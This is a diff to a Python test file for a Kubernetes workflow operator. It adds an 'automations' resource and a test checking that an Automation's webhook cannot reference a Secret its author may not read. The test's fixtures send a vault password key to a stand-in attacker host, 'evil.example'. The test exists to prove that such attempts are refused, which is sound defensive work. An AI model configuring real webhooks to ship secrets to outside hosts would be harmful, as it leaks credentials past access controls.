@@ -19,7 +19,7 @@ from tests.cluster.support.waiting import eventually
 GROUP = "headrace.dev"
 RUNNER = (GROUP, ["flowruns"], ["create", "get", "watch", "patch"])
 """What docs/composition.md and docs/remote-tasks.md tell people to give to a flow."""
-KINDS = ["flows", "deployments", "flowruns", "backfills"]
+KINDS = ["flows", "deployments", "flowruns", "backfills", "automations"]
 EDITOR = (GROUP, KINDS, ["get", "list", "watch", "create", "update", "patch", "delete"])
 """As the chart's role headrace-edit, without what Kubernetes' own `edit` adds."""
 FLOW = {"entrypoint": "etl.py:main", "source": {"image": {}}}
@@ -352,6 +352,26 @@ async def test_a_deployment_is_no_way_around_the_flows_rights(scene: Scene, clie
         assert "may not use ServiceAccount runner of Flow theirs" in error.message
 
 
+def an_automation(**action: Any) -> dict[str, Any]:
+    spec = {"trigger": {"run": {"phases": ["Failed"]}}, "actions": [{"name": "it", **action}]}
+    return an_object("Automation", "new", spec)
+
+
+async def test_an_automation_sends_no_secret_that_its_author_may_not_read(scene: Scene) -> None:
+    """The operator reads it for the Automation, and would send it wherever the author says."""
+    key = {"name": "vault", "key": "password"}
+    webhooks = [
+        {"url": "https://evil.example", "body": "PagerDuty", "routingKeyFrom": key},
+        {"url": "https://evil.example", "secretRef": key},
+        {"urlFrom": key},
+    ]
+    for webhook in webhooks:
+        error = await scene.person.refused("POST", scene.path("automations"), an_automation(webhook=webhook))
+        assert "name a Secret that you may not read" in error.message, error
+    plain = an_automation(webhook={"url": "https://good.example"})
+    await scene.person.client.create(scene.path("automations"), plain)
+
+
 async def test_a_strict_namespace_leaves_placement_and_tokens_to_the_platform(scene: Scene, client: KubeClient) -> None:
     """pod-policy=Restricted."""
     await labelled(client, scene.namespace, {"headrace.dev/pod-policy": "Restricted"})
@@ -393,6 +413,7 @@ async def test_who_starts_what_follows_rbac_where_a_namespace_asks_for_it(scene:
             "flowruns": foreign,
             "deployments": an_object("Deployment", "new", {"flowRef": {"name": "payroll"}}),
             "backfills": an_object("Backfill", "new", backfill),
+            "automations": an_automation(start={"deployment": "etl"}),
         }.items():
             error = await starter.refused("POST", scene.path(plural), body)
             assert "you need the verb run on" in error.message, error
